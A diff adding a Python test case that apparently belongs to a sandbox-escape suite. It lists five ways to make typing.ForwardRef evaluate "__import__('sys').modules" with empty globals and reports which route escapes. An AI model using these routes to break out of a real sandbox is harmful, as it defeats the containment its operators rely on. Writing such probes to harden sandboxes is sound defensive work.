@@ -1,0 +1,19 @@
+# attack: typing.ForwardRef compiles and evaluates any expression, with real builtins when given an empty globals
+# stopped by: nothing or AttributeError or ImportError
+import typing
+
+src = "__import__('sys').modules"
+ways = [
+    lambda: typing.ForwardRef(src).evaluate(globals={}, locals={}),
+    lambda: typing.ForwardRef(src)._evaluate({}, {}, recursive_guard=frozenset()),
+    lambda: typing.ForwardRef(src)._evaluate({}, {}, frozenset()),
+    lambda: typing.evaluate_forward_ref(typing.ForwardRef(src), globals={}),
+    lambda: typing.List[src].__args__[0].evaluate(globals={}),
+]
+for i, way in enumerate(ways):
+    try:
+        got = way()
+    except Exception:
+        continue
+    if isinstance(got, dict) or hasattr(got, "keys"):
+        print("ESCAPED sys.modules by way", i)
